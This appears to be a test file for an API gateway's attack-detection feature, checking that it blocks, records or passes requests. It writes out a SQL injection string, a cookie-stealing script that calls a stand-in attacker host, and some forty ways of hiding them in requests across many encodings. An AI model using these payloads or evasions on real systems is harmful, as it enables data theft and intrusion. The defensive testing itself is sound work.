import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { call, echoUpstream, TestGateway } from '../harness/gateway.ts';

const SQL = "1' UNION SELECT username, password FROM users--";
const SCRIPT = '<script>fetch("//evil.example/?"+document.cookie)</script>';
const JSON_TYPE = { 'content-type': 'application/json' };

interface Attack {
  readonly path?: string;
  readonly headers?: Record<string, string>;
  readonly body?: string | Buffer;
}

function multipart(part: string): Attack {
  return {
    headers: { 'content-type': 'multipart/form-data; boundary=b' },
    body: `--b\r\nContent-Disposition: form-data; ${part}\r\n--b--\r\n`,
  };
}

const token = (claims: unknown) =>
  [{ alg: 'HS256' }, claims].map((part) => Buffer.from(JSON.stringify(part)).toString('base64url')).join('.');
const base64 = (text: string): string => Buffer.from(text).toString('base64url');

/** A number in field 1, and in field 2 a message with the text in its field 1. */
function message(text: string): Buffer {
  const { length } = text;
  return Buffer.from(`\x08\x01\x12${String.fromCharCode(length + 4)}\x10\x01\n${String.fromCharCode(length)}${text}`);
}

function frame(flag: number, content: Buffer): Buffer {
  const head = Buffer.from([flag, 0, 0, 0, 0]);
  head.writeUInt32BE(content.length, 1);
  return Buffer.concat([head, content]);
}

const spaced = encodeURIComponent(SQL);
const twice = encodeURIComponent(spaced);

/** The same two attacks in every place a call has, as they come and in other clothes. */
const ATTACKS: Readonly<Record<string, Attack>> = {
  'a path segment': { path: `/items/${spaced}` },
  'a path segment, encoded twice': { path: `/items/${twice}` },
  'a query value': { path: `/items/1?q=${spaced}` },
  'a query value, encoded twice': { path: `/items/1?q=${twice}` },
  'a query value with comments for spaces': { path: `/items/1?q=${encodeURIComponent(SQL.replaceAll(' ', '/**/'))}` },
  'a query value in other case': {
    path: `/items/1?q=${encodeURIComponent(SQL.replace('UNION SELECT', 'uNiOn sElEcT'))}`,
  },
  'a query without a name': { path: `/items/1?${spaced}` },
  'a query of two halves': { path: `/items/1?q=1'/*&q=*/union/*&q=*/select/*&q=*/password/*&q=*/from/*&q=*/users--` },
  'a header': { headers: { 'x-search': SQL } },
  'the referrer': { headers: { referer: `https://example.com/?q=${SCRIPT.replaceAll('"', "'")}` } },
  'the user agent': { headers: { 'user-agent': SQL } },
  'a cookie': { headers: { cookie: `theme=dark; id=${spaced}` } },
  'a form': { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `a=1&q=${spaced}` },
  'a string of JSON': { headers: JSON_TYPE, body: JSON.stringify({ items: [{ note: SQL }] }) },
  'a string of JSON in escapes': {
    headers: JSON_TYPE,
    body: `{"note":"${[...SQL].map((one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`,
  },
  'script in JSON': { headers: JSON_TYPE, body: JSON.stringify({ note: SCRIPT }) },
  'JSON in a string of JSON': { headers: JSON_TYPE, body: JSON.stringify({ note: JSON.stringify({ deep: SQL }) }) },
  'base64 of JSON': { path: `/items/1?state=${Buffer.from(JSON.stringify({ q: SQL })).toString('base64url')}` },
  'base64 in base64': { headers: JSON_TYPE, body: JSON.stringify({ state: base64(base64(SQL)) }) },
  'base64 in lines': { headers: JSON_TYPE, body: JSON.stringify({ file: base64(SQL).replace(/.{20}/g, '$&\r\n') }) },
  'base64 with characters that lax decoders pass over': { path: `/items/1?q=${base64(SQL).replace(/.{9}/g, '$&.')}` },
  'hexadecimal digits': { path: `/items/1?q=${Buffer.from(SQL).toString('hex')}` },
  'JSON that says it is text': { headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ note: SQL }) },
  'JSON that says nothing': { body: JSON.stringify({ note: SQL }) },
  'a compressed body': {
    headers: { ...JSON_TYPE, 'content-encoding': 'gzip' },
    body: gzipSync(JSON.stringify({ note: SQL })),
  },
  'a part of a form': multipart(`name="a"\r\n\r\n${SQL}`),
  'a file name': multipart(`name="a"; filename="${SCRIPT.replaceAll('"', "'")}"\r\n\r\nx`),
  'XML text': { headers: { 'content-type': 'application/xml' }, body: `<r><q>${SQL}</q></r>` },
  'an attribute of XML': { headers: { 'content-type': 'application/xml' }, body: `<r q="${SQL}"/>` },
  'a literal of GraphQL': { headers: JSON_TYPE, body: JSON.stringify({ query: `{ user(name: "${SQL}") { id } }` }) },
  'a variable of GraphQL': {
    headers: JSON_TYPE,
    body: JSON.stringify({ query: 'query($n: String) { user(name: $n) { id } }', variables: { n: SQL } }),
  },
  'a string of Protocol Buffers': { headers: { 'content-type': 'application/x-protobuf' }, body: message(SQL) },
  'JSON that says it is Protocol Buffers': {
    headers: { 'content-type': 'application/x-protobuf' },
    body: JSON.stringify({ note: SQL }),
  },
  'a compressed message of gRPC': {
    headers: { 'content-type': 'application/grpc+proto', 'grpc-encoding': 'gzip' },
    body: frame(1, gzipSync(message(SQL))),
  },
  'the first message of a gRPC body that is cut short': {
    headers: { 'content-type': 'application/grpc' },
    body: Buffer.concat([frame(0, message(SQL)), Buffer.from([0, 0])]),
  },
  'a claim of a token': { headers: { authorization: `Bearer ${token({ sub: SQL })}.c2ln` } },
  'the end of a long body': {
    headers: JSON_TYPE,
    body: JSON.stringify([...Array.from({ length: 3000 }, (_, i) => `item ${i}`), SQL]),
  },
};

const ROUTES = (payload: string) => `routes:
  - id: items
    match: { path: "/items/*" }
    upstream: api
    authenticate: none
    inspect: { payload: ${payload}, maxBodyBytes: 1MiB }
`;

async function send(gateway: TestGateway, { path, headers, body }: Attack) {
  return call(`${gateway.url}${path ?? '/items/1'}`, {
    method: body === undefined ? 'GET' : 'POST',
    headers: { ...headers },
    ...(body === undefined ? {} : { body }),
  });
}

describe('a route that looks for attacks and enforces', () => {
  let upstream: Awaited<ReturnType<typeof echoUpstream>>;
  let gateway: TestGateway;
  before(async () => {
    upstream = await echoUpstream();
    gateway = await TestGateway.start({
      config: `mode: enforce\nupstreams: { api: { url: "${upstream.url}" } }\n${ROUTES('{ exceptions: [{ path: body.template, class: sqli, expires: 2999-01-01 }] }')}`,
    });
  });
  after(async () => {
    await gateway.stop();
    await upstream.close();
  });

  for (const [where, attack] of Object.entries(ATTACKS))
    test(`refuses an attack in ${where}, and the upstream sees nothing of it`, async () => {
      const seen = upstream.seen.length;
      const answer = await send(gateway, attack);
      assert.ok(answer.status === 403 || (answer.status === 400 && where.includes('twice')), answer.text);
      assert.equal(upstream.seen.length, seen);
      assert.ok(!answer.text.includes('UNION'));
      if (answer.status === 403) assert.equal(JSON.parse(answer.text).code, 'payload.refused');
    });

  test('lets ordinary calls through with bodies as they came', async () => {
    const body = JSON.stringify({
      name: "Conan O'Brien",
      note: 'Please select a table from the list; 5 < 7 & rock-n-roll.',
    });
    const answer = await send(gateway, { path: '/items/42?sort=-created&page=2', headers: JSON_TYPE, body });
    assert.equal(answer.status, 200, answer.text);
    assert.equal(JSON.parse(answer.text).body, body);
  });

  test('lets through what an exception names and nothing beside', async () => {
    const at = (key: string) => send(gateway, { headers: JSON_TYPE, body: JSON.stringify({ [key]: SQL }) });
    assert.equal((await at('template')).status, 200);
    assert.equal((await at('other')).status, 403);
  });

  test('refuses compressed messages that it cannot unpack', async () => {
    const headers = { 'content-type': 'application/grpc', 'grpc-encoding': 'snappy' };
    const answer = await send(gateway, { headers, body: frame(1, message('plain')) });
    assert.equal(answer.status, 400, answer.text);
  });

  test('refuses a body that can be read in two ways', async () => {
    const answer = await send(gateway, { headers: JSON_TYPE, body: '{"role":"user","role":"admin"}' });
    assert.equal(answer.status, 400);
    assert.equal(JSON.parse(answer.text).code, 'payload.malformed');
  });
});

test('a route that observes lets every attack through as it came and records it', { timeout: 60_000 }, async () => {
  const upstream = await echoUpstream();
  const gateway = await TestGateway.start({
    config: `mode: observe\nupstreams: { api: { url: "${upstream.url}" } }\n${ROUTES('default')}`,
  });
  try {
    for (const [where, attack] of Object.entries(ATTACKS)) {
      const answer = await send(gateway, attack);
      assert.equal(answer.status, 200, where);
      if (typeof attack.body === 'string') assert.equal(JSON.parse(answer.text).body, attack.body);
    }
    const wanted = Object.keys(ATTACKS).length;
    const recorded = await gateway.recorded(wanted);
    assert.equal(recorded.length, wanted);
    for (const { outcome, reason, path } of recorded) {
      assert.equal(outcome, 'observed', path);
      assert.match(reason, /^(?:payload|path)\./, path);
    }
  } finally {
    await gateway.stop();
    await upstream.close();
  }
});

test('where the model is missing or damaged, nothing starts that is to look for attacks', {
  timeout: 60_000,
}, async () => {
  const root = new URL('../..', import.meta.url).pathname;
  const copy = mkdtempSync(join(tmpdir(), 'sallyport-model-'));
  try {
    for (const name of ['src', 'scripts', 'package.json', 'sallyport'])
      cpSync(join(root, name), join(copy, name), { recursive: true });
    symlinkSync(join(root, 'node_modules'), join(copy, 'node_modules'));
    const config = `version: 1\nmode: enforce\nlisten: { port: 0 }\nadmin: { port: 0 }\nupstreams: { api: { url: "http://127.0.0.1:9" } }\n${ROUTES('default')}`;
    writeFileSync(join(copy, 'sallyport.yaml'), config);
    const model = join(copy, 'src/detect/model.json');
    const text = readFileSync(model, 'utf8');
    for (const damage of [
      () => rmSync(model),
      () => writeFileSync(model, text.slice(0, text.length / 2)),
      () => writeFileSync(model, '{}'),
    ]) {
      damage();
      const started = spawnSync(join(copy, 'sallyport'), ['up', '--config', 'sallyport.yaml'], {
        cwd: copy,
        encoding: 'utf8',
      });
      assert.equal(started.status, 2, started.stdout);
      assert.match(started.stderr, /error\[SP175\].*model.*\/src\/detect\/model\.json/);
      const withoutFile = spawnSync(
        join(copy, 'sallyport'),
        ['up', '--upstream', 'http://127.0.0.1:9', '--port', '0', '--admin-port', '0'],
        {
          cwd: mkdtempSync(join(copy, 'no-file-')),
          encoding: 'utf8',
          timeout: 30_000,
        },
      );
      assert.ok(withoutFile.status !== null && withoutFile.status > 0, withoutFile.stdout);
      assert.match(withoutFile.stderr, /model.*\/src\/detect\/model\.json/);
    }
  } finally {
    rmSync(copy, { recursive: true });
  }
});
